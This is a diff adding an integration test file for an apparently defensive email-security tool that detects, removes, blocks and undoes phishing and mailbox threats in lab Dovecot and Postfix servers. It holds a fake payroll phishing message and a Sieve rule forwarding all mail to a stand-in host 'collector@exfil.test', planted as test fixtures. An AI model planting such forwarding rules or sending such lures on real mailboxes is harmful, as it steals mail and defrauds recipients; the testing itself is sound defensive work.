@@ -1,0 +1,370 @@
+"""The whole loop against a real Dovecot and Postfix: mail delivered over LMTP and
+SMTP, read by heron over IMAP, investigated, acted on after approval, verified,
+and undone."""
+
+from __future__ import annotations
+
+import json
+import os
+import smtplib
+import subprocess
+import sys
+import textwrap
+from email.message import EmailMessage
+from email.utils import format_datetime
+from pathlib import Path
+
+import pytest
+from imapclient import IMAPClient
+from sievelib.managesieve import Client as SieveClient
+from sqlalchemy import select
+
+from heron.engine.service import Heron
+from heron.errors import ActionError, PermissionDenied
+from heron.samples.org import user_report
+from heron.store import models as m
+from tests.maillab import DOMAIN, PASSWORD
+from tests.mailserver.conftest import PHISH_URL, Lab, addresses
+
+pytestmark = pytest.mark.mailserver
+
+SENDER = "payroll@payroll-check.test"
+DELETED = "Recoverable Items"
+
+
+def phish(tag: str, to: str) -> bytes:
+    message = EmailMessage()
+    message["From"] = f"Payroll Team <{SENDER}>"
+    message["To"] = to
+    message["Subject"] = f"Action required: confirm your salary account ({tag})"
+    message["Message-ID"] = f"<{tag}@payroll-check.test>"
+    message["Date"] = format_datetime(
+        __import__("datetime").datetime.now().astimezone()
+    )
+    message.set_content(
+        "Your salary payment is on hold. Confirm your bank details at "
+        f"{PHISH_URL} within 24 hours (reference {tag}) or the payment is returned.\n"
+    )
+    return message.as_bytes()
+
+
+def user_imap(lab: Lab, user: str) -> IMAPClient:
+    client = IMAPClient("127.0.0.1", port=lab.dovecot.imap_port, ssl=False)
+    client.login(user, PASSWORD)
+    return client
+
+
+def copies_by_folder(lab: Lab, user: str, message_id: str) -> dict[str, int]:
+    """How many copies of the message each folder of the user's mailbox holds."""
+    counts = {}
+    with user_imap(lab, user) as client:
+        for _, _, folder in client.list_folders():
+            client.select_folder(folder, readonly=True)
+            found = client.search(["HEADER", "Message-ID", message_id])
+            if found:
+                counts[folder] = len(found)
+    return counts
+
+
+def reported_copy(lab: Lab, user: str, message_id: str) -> bytes:
+    with user_imap(lab, user) as client:
+        client.select_folder("INBOX", readonly=True)
+        uid = client.search(["HEADER", "Message-ID", message_id])[0]
+        return client.fetch([uid], ["BODY.PEEK[]"])[uid][b"BODY[]"]
+
+
+def report_and_process(heron: Heron, lab: Lab, user: str, message_id: str) -> int:
+    heron.report(user_report(user, reported_copy(lab, user, message_id)))
+    touched = heron.process()
+    assert touched
+    return touched[-1]
+
+
+def actions_of(heron: Heron, investigation_id: int, kind: str) -> list[m.Action]:
+    with heron.store.session() as session:
+        rows = session.scalars(
+            select(m.Action)
+            .where(m.Action.investigation_id == investigation_id, m.Action.type == kind)
+            .order_by(m.Action.id)
+        ).all()
+        session.expunge_all()
+        return list(rows)
+
+
+def covered_mailboxes(heron: Heron, action: m.Action) -> set[str]:
+    with heron.store.session() as session:
+        return {session.get(m.Copy, c).mailbox for c in action.params["copies"]}
+
+
+def test_a_reported_phish_is_soft_deleted_from_every_mailbox_and_put_back(
+    lab, heron_for
+):
+    heron = heron_for("loop")
+    users = addresses("loop")
+    lab.dovecot.deliver(phish("loop1", users[0]), SENDER, users)
+    polled = heron.poll()
+    assert polled.copies == 3 and not polled.errors
+
+    investigation_id = report_and_process(
+        heron, lab, users[0], "<loop1@payroll-check.test>"
+    )
+    deletes = actions_of(heron, investigation_id, "soft_delete")
+    assert deletes and all(a.status == "pending" for a in deletes)
+    assert set(users) <= set().union(*(covered_mailboxes(heron, a) for a in deletes))
+    for user in users:  # nothing moves before a person approves
+        assert copies_by_folder(lab, user, "<loop1@payroll-check.test>") == {"INBOX": 1}
+
+    moved = {}
+    for action in deletes:
+        done = heron.approve(action.id, by="approver", comment="campaign")
+        assert done.status == "completed"
+        for target in done.result["targets"]:
+            if target["status"] == "done":
+                assert target["verified"] == "in deleted"
+                moved[target["mailbox"]] = moved.get(target["mailbox"], 0) + 1
+            else:  # a later cluster's delete finds the copies already gone
+                assert target["status"] == "already gone"
+    assert moved == {user: 1 for user in users}
+    for user in users:
+        assert copies_by_folder(lab, user, "<loop1@payroll-check.test>") == {DELETED: 1}
+    with heron.store.session() as session:
+        # The block of the sender still waits for a person.
+        assert session.get(m.Investigation, investigation_id).status == "pending action"
+
+    for action in reversed(deletes):
+        assert heron.undo(action.id, by="approver").status == "undone"
+    for user in users:
+        assert copies_by_folder(lab, user, "<loop1@payroll-check.test>") == {"INBOX": 1}
+
+
+def test_an_outside_forward_made_in_sieve_is_alerted_turned_off_and_put_back(
+    lab, heron_for
+):
+    heron = heron_for("forward")
+    (user,) = addresses("forward")
+    script = (
+        'require ["copy"];\n'
+        "# sends everything on\n"
+        'redirect :copy "collector@exfil.test";\n'
+        f'if header :contains "subject" "team" {{ redirect "desk@{DOMAIN}"; }}\n'
+    )
+    sieve = SieveClient("127.0.0.1", lab.dovecot.sieve_port)
+    assert sieve.connect(user, PASSWORD, starttls=False, authmech="PLAIN")
+    assert sieve.putscript("rules", script) and sieve.setactive("rules")
+    heron.poll()  # the mailbox becomes known to heron
+
+    scan = heron.scan_mailboxes()
+    assert scan.events == 1 and scan.forwards == 2 and not scan.errors
+    assert heron.scan_mailboxes().events == 0  # seen before: not raised again
+    touched = heron.process()
+    with heron.store.session() as session:
+        alert = session.scalar(
+            select(m.Alert).where(m.Alert.investigation_id == touched[0])
+        )
+        assert alert.policy == "Suspicious email forwarding activity"
+        assert alert.severity == "high"
+        investigation = session.get(m.Investigation, touched[0])
+        assert investigation.playbook == "mailbox-settings"
+        assert investigation.verdict == "malicious"
+    (action,) = actions_of(heron, touched[0], "disable_forwarding")
+    assert action.status == "pending" and action.target == user
+
+    redirected = lab.dovecot.root / "redirected.mbox"
+    before = redirected.stat().st_size
+    done = heron.approve(action.id, by="approver")
+    assert done.status == "completed"
+    assert (
+        done.result["targets"][0]["verified"]
+        == "no forwarding outside the organisation left"
+    )
+    changed = sieve.getscript("rules")
+    assert "exfil.test" not in changed and f"desk@{DOMAIN}" in changed
+    lab.dovecot.deliver(phish("fwd-after", user), SENDER, [user])
+    assert redirected.stat().st_size == before  # nothing left for outside
+
+    assert heron.undo(action.id, by="approver").status == "undone"
+    assert (
+        sieve.getscript("rules") == script.rstrip("\n")
+        or sieve.getscript("rules") == script
+    )
+    lab.dovecot.deliver(phish("fwd-undone", user), SENDER, [user])
+    assert "collector@exfil.test" in redirected.read_text()[before:]
+
+
+def test_a_delegation_is_found_removed_and_granted_again(lab, heron_for):
+    heron = heron_for("delegation")
+    owner, delegate = addresses("delegation")
+    with user_imap(lab, owner) as client:
+        client.setacl("INBOX", delegate, "lrs")
+    heron.poll()
+    scan = heron.scan_mailboxes()
+    assert scan.delegations == 1 and scan.events == 1
+    touched = heron.process()
+    actions = [a for i in touched for a in actions_of(heron, i, "remove_delegation")]
+    (action,) = actions
+    assert action.params["delegation"]["grantee"] == delegate
+
+    assert heron.approve(action.id, by="approver").status == "completed"
+    with user_imap(lab, owner) as client:
+        assert delegate.encode() not in dict(client.getacl("INBOX"))
+    assert heron.undo(action.id, by="approver").status == "undone"
+    with user_imap(lab, owner) as client:
+        assert dict(client.getacl("INBOX"))[delegate.encode()] == b"lrs"
+
+
+def test_block_sender_is_refused_by_postfix_until_undone(lab, heron_for):
+    heron = heron_for("block")
+    (user,) = addresses("block")
+    lab.postfix.send(phish("block1", user), SENDER, [user])
+    _wait_for(lambda: copies_by_folder(lab, user, "<block1@payroll-check.test>"))
+    heron.poll()
+    investigation_id = report_and_process(
+        heron, lab, user, "<block1@payroll-check.test>"
+    )
+    (block,) = actions_of(heron, investigation_id, "block_sender")
+    assert block.target == SENDER
+
+    done = heron.approve(block.id, by="approver")
+    assert done.status == "completed"
+    assert {t["where"] for t in done.result["targets"]} == {"heron block list", "mx"}
+    with pytest.raises((smtplib.SMTPRecipientsRefused, smtplib.SMTPSenderRefused)):
+        lab.postfix.send(phish("block2", user), SENDER, [user])
+    # Another sender still gets through.
+    lab.postfix.send(phish("block3", user), "friend@partner.test", [user])
+
+    assert heron.undo(block.id, by="approver").status == "undone"
+    lab.postfix.send(phish("block4", user), SENDER, [user])
+    _wait_for(lambda: copies_by_folder(lab, user, "<block4@payroll-check.test>"))
+
+
+def test_hard_delete_needs_the_purge_permission_and_cannot_be_undone(lab, heron_for):
+    heron = heron_for("purge")
+    users = addresses("purge")
+    lab.dovecot.deliver(phish("purge1", users[0]), SENDER, users)
+    heron.poll()
+    investigation_id = report_and_process(
+        heron, lab, users[0], "<purge1@payroll-check.test>"
+    )
+    soft = actions_of(heron, investigation_id, "soft_delete")[0]
+    hard = heron.propose_hard_delete(soft.id, by="analyst")
+    assert hard.status == "pending" and hard.type == "hard_delete"
+
+    with pytest.raises(PermissionDenied, match="purge permission"):
+        heron.approve(hard.id, by="approver")
+    for user in users:
+        assert copies_by_folder(lab, user, "<purge1@payroll-check.test>") == {
+            "INBOX": 1
+        }
+
+    done = heron.approve(hard.id, by="purger")
+    assert done.status == "completed"
+    assert all(t["verified"] == "no copy left" for t in done.result["targets"])
+    for user in users:
+        assert copies_by_folder(lab, user, "<purge1@payroll-check.test>") == {}
+    with pytest.raises(ActionError, match="cannot be undone"):
+        heron.undo(hard.id, by="purger")
+
+
+CRASHING_RUN = textwrap.dedent(
+    """
+    import json, os, signal, sys
+    from heron.config import Settings
+    from heron.connectors.dovecot import DovecotConnector
+    from heron.engine.service import Heron
+
+    settings = Settings(**json.loads(open(sys.argv[1]).read()))
+    stop_after = int(sys.argv[3])
+    moved = []
+    real_move = DovecotConnector.move
+
+    def move(self, *args, **kwargs):
+        outcome = real_move(self, *args, **kwargs)
+        moved.append(outcome)
+        if len(moved) == stop_after:
+            # The copy has moved on the server; heron has not recorded it yet.
+            os.kill(os.getpid(), signal.SIGKILL)
+        return outcome
+
+    DovecotConnector.move = move
+    heron = Heron(settings)
+    heron.approve(int(sys.argv[2]), by="approver")
+    """
+)
+
+
+def test_a_soft_delete_killed_half_way_moves_every_copy_exactly_once(
+    lab, heron_for, tmp_path
+):
+    heron = heron_for("crash")
+    users = addresses("crash")
+    lab.dovecot.deliver(phish("crash1", users[0]), SENDER, users)
+    assert heron.poll().copies == 50
+    investigation_id = report_and_process(
+        heron, lab, users[0], "<crash1@payroll-check.test>"
+    )
+    action = next(
+        a
+        for a in actions_of(heron, investigation_id, "soft_delete")
+        if covered_mailboxes(heron, a) == set(users)
+    )
+    config = tmp_path / "settings.json"
+    config.write_text(heron.settings.model_dump_json())
+
+    run = subprocess.run(
+        [sys.executable, "-c", CRASHING_RUN, str(config), str(action.id), "25"],
+        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+    assert run.returncode == -9, run.stderr[-2000:]
+    with heron.store.session() as session:
+        interrupted = session.get(m.Action, action.id)
+        assert interrupted.status == "running"
+        assert len(interrupted.result["targets"]) == 24  # the 25th was not recorded
+    moved_so_far = sum(
+        copies_by_folder(lab, u, "<crash1@payroll-check.test>").get(DELETED, 0)
+        for u in users
+    )
+    assert moved_so_far == 25
+
+    finished = heron.execute(action.id)
+    assert finished.status == "completed"
+    statuses = [t["status"] for t in finished.result["targets"]]
+    assert len(statuses) == 50
+    assert (
+        statuses.count("already in destination") == 1 and statuses.count("done") == 49
+    )
+    for user in users:
+        assert copies_by_folder(lab, user, "<crash1@payroll-check.test>") == {
+            DELETED: 1
+        }
+
+
+def test_polling_reads_only_what_arrived_since_the_last_poll(lab, heron_for):
+    heron = heron_for("poll")
+    (user,) = addresses("poll")
+    lab.dovecot.deliver(phish("poll1", user), SENDER, [user])
+    lab.dovecot.deliver(phish("poll2", user), SENDER, [user])
+    first = heron.poll()
+    assert first.copies == 2
+    again = heron.poll()
+    assert again.copies == 0 and again.duplicates == 0  # nothing fetched twice
+    lab.dovecot.deliver(phish("poll3", user), SENDER, [user])
+    third = heron.poll()
+    assert third.copies == 1 and third.duplicates == 0
+    with heron.store.session() as session:
+        state = session.get(m.SyncState, ("lab", user)).state
+    assert state["INBOX"]["uid"] >= 3
+    assert json.dumps(state)  # kept as plain data
+
+
+def _wait_for(condition, timeout: float = 20.0) -> None:
+    import time
+
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if condition():
+            return
+        time.sleep(0.2)
+    raise AssertionError("the mail did not arrive in time")
